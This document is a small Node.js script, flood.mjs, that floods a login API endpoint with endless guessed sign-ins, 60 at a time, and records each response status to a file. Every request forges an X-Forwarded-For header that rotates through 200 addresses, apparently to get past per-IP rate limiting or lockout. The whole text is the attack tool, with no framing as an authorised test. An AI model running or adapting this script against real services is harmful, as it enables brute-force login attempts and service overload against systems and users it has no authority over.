// flood.mjs: API FILE: guesses from 198.51.100.0/24 without end, 60 under way at once; every status is a line of FILE.
import { createWriteStream } from "node:fs";
import http from "node:http";

const [api, file] = process.argv.slice(2);
const [host, port] = api.split(":");
const out = createWriteStream(file);
const agent = new http.Agent({ keepAlive: true, maxSockets: 60 });
let asked = 0;

function guess() {
    const n = asked++;
    const body = JSON.stringify({ name: `n${n}`, password: "guess at random" });
    const headers = { Host: api, "Content-Type": "application/json", "Content-Length": body.length,
        "X-Forwarded-For": `198.51.100.${n % 200}` };
    const request = http.request({ host, port, method: "POST", path: "/api/v1/session", agent, headers }, (answer) => {
        answer.resume();
        answer.on("end", () => { out.write(`${answer.statusCode}\n`); setTimeout(guess, 2); });
    });
    request.on("error", () => setTimeout(guess, 20));
    request.end(body);
}
for (let i = 0; i < 60; i++) guess();
